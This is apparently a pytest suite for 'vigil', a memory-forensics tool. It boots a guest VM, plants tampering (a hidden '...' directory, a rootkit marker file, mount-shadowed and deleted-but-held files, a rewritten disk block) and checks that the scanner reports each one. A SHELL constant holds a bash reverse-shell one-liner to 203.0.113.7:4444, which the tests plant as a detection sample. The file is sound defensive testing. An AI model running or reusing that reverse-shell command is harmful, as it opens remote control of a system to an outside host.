"""vigil disk against a running guest (one booted per module): its RAM disks (tmpfs, devtmpfs,
the initramfs rootfs) listed, read and checked from guest memory, and the cross-view of an
ext4 disk the guest has mounted. A clean guest gives no finding; then a reverse shell in /tmp,
a hidden "..." directory, a file shadowed by a mount and a deleted file still held are
found in RAM; and on the disk, a running program deleted from it, a held file whose
directory entry was removed behind the kernel's back, and a file whose blocks were
rewritten behind its page cache."""

import hashlib
import json
import os
import subprocess
import sys

import pytest

from conftest import BOOT_TIMEOUT
from guest import REPO, Guest

sys.path.insert(0, str(REPO / "tests" / "fixtures" / "disk"))
import build_image  # noqa: E402

SHELL = "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"


@pytest.fixture(scope="module")
def dg(guest_image, tmp_path_factory):
    d = tmp_path_factory.mktemp(f"diskguest{os.getpid()}")
    img = build_image.build("clean", str(d / "vda.img"))
    g = Guest("disk_guest", image_dir=guest_image,
              extra_args=["-drive", f"file={img},format=raw,if=virtio"],
              extra_append="vigil.load=virtio_blk,ext4")
    try:
        g.start()
        g.wait_boot(BOOT_TIMEOUT)
        assert "mounted" in g.run("mkdir -p /mnt && mount -t ext4 /dev/vda /mnt && "
                                  "echo mounted")
        yield g, img
    finally:
        g.stop()


def alerts(stdout):
    return [json.loads(line) for line in stdout.splitlines() if line.strip()]


def by_pair(found):
    return {(a["check"], a["target"]["id"]): a for a in found}


def test_clean_guest_ram_disks(dg, run_vigil):
    g, _ = dg
    rc, out, err = run_vigil("disk", "scan", "--vm", g.mem_path, "-j")
    assert (rc, out) == (0, ""), err
    rc, out, err = run_vigil("disk", "ls", "--vm", g.mem_path, "-j")
    assert rc == 0, err
    entries = {e["path"]: e for e in json.loads(out)}
    assert entries["/tmp"]["mode"] == "041777"
    assert entries["/bin/busybox"]["type"] == "file"
    null = entries["/dev/null"]
    assert (null["type"], null["major"], null["minor"]) == ("char", 1, 3)
    assert entries["/mnt"].get("flags") == "unlisted"  # ext4: not a RAM disk


def test_ram_disk_files_are_read_and_checked(dg, run_vigil):
    g, _ = dg
    g.run(f"echo '{SHELL}' > /tmp/evil.sh && mkdir -p '/tmp/...' && echo 55808 > '/tmp/.../a'")
    g.run("dd if=/dev/urandom of=/tmp/big bs=1024 count=3000 2>/dev/null")
    g.run("mkdir -p /hideme && echo loot > /hideme/loot && mount -t tmpfs tmpfs /hideme")
    g.run("echo gone > /tmp/gone && (sleep 3000 < /tmp/gone &) ; rm /tmp/gone")
    rc, out, err = run_vigil("disk", "cat", "--vm", g.mem_path, "/tmp/evil.sh")
    assert (rc, out) == (0, SHELL + "\n"), err
    md5 = g.run("md5sum /tmp/big").split()[0]
    r = subprocess.run([os.environ.get("VIGIL_BIN", str(REPO / "build" / "vigil")), "disk",
                        "cat", "--vm", g.mem_path, "/tmp/big"], capture_output=True, timeout=60)
    assert r.returncode == 0 and len(r.stdout) == 3000 * 1024
    assert hashlib.md5(r.stdout).hexdigest() == md5
    rc, out, err = run_vigil("disk", "scan", "--vm", g.mem_path, "-j")
    assert rc == 1, err
    found = by_pair(alerts(out))
    assert set(found) == {("yara-match", "/tmp/evil.sh"), ("rootkit-file", "/tmp/.../a"),
                          ("hidden-file", "/tmp/..."), ("hidden-file", "/hideme/loot"),
                          ("deleted-open", "/tmp/gone")}
    assert found[("yara-match", "/tmp/evil.sh")]["evidence"]["rule"] == "vigil_reverse_shell"
    assert found[("rootkit-file", "/tmp/.../a")]["evidence"]["rootkit"] == "55808 Worm"
    assert found[("hidden-file", "/hideme/loot")]["evidence"]["reason"] == "under-mount"
    assert found[("deleted-open", "/tmp/gone")]["evidence"]["reason"] == "deleted-in-memory"


def test_cross_view_of_a_clean_disk(dg, run_vigil, tmp_path):
    g, img = dg
    g.run("cat /mnt/etc/motd >/dev/null; ls -lR /mnt >/dev/null; sync")
    rc, out, err = run_vigil("disk", "scan", img, "--vm", g.mem_path, "-j")
    assert (rc, out) == (0, ""), err
    # an image the guest has not mounted: its own findings, and a warning
    other = build_image.build("infected", str(tmp_path / "other.img"))
    rc, out, err = run_vigil("disk", "scan", other, "--vm", g.mem_path, "-j",
                             "--check", "trojaned-binary")
    assert rc == 1 and "no cross-view" in err
    assert [json.loads(line)["target"]["id"] for line in out.splitlines()] == ["/bin/ls"]


def block_of(img, path):
    out = subprocess.run(["debugfs", "-R", f"blocks {path}", img], capture_output=True,
                         text=True, check=True).stdout.split()
    stats = subprocess.run(["debugfs", "-R", "stats", img], capture_output=True, text=True,
                           check=True).stdout
    bs = int(next(l for l in stats.splitlines() if l.startswith("Block size:")).split()[-1])
    return int(out[0]) * bs


def test_cross_view_finds_what_the_disk_and_kernel_disagree_on(dg, run_vigil):
    g, img = dg
    # a program run from the disk and deleted; a file held open; a file cached
    g.run("cp /bin/busybox /mnt/srv/sleep && (/mnt/srv/sleep 3001 &) ; sleep 1; "
          "rm /mnt/srv/sleep; (sleep 3002 < /mnt/home/user/notes.txt &) ; "
          "cat /mnt/etc/motd >/dev/null; sync")
    # behind the kernel's back: the held file's entry is removed, motd's block rewritten
    subprocess.run(["debugfs", "-w", "-R", "unlink /home/user/notes.txt", img], check=True,
                   capture_output=True)
    with open(img, "r+b") as f:
        f.seek(block_of(img, "/etc/motd"))
        f.write(b"You have been 0wned.\n")
    rc, out, err = run_vigil("disk", "scan", img, "--vm", g.mem_path, "-j")
    assert rc == 1, err
    found = by_pair(alerts(out))
    deleted = found[("deleted-in-use", "/mnt/srv/sleep")]
    assert deleted["severity"] == "high"
    assert deleted["evidence"]["held_by"][0]["as"] == "executable"
    assert deleted["evidence"]["on_disk"] == "orphan list"
    hidden = found[("hidden-in-use", "/mnt/home/user/notes.txt")]
    assert hidden["severity"] == "high" and hidden["evidence"]["held_by"][0]["fd"] == 0
    changed = found[("changed-on-disk", "/etc/motd")]
    assert changed["evidence"]["pages_differ"] == 1
    assert changed["evidence"]["first_difference"] == 0
    # and what the disk alone shows: the orphan and the unlisted inode
    rest = {k for k in found if k[0] in ("deleted-open", "unreachable-inode")}
    assert {k[0] for k in rest} == {"deleted-open", "unreachable-inode"}
    assert len(found) == 5
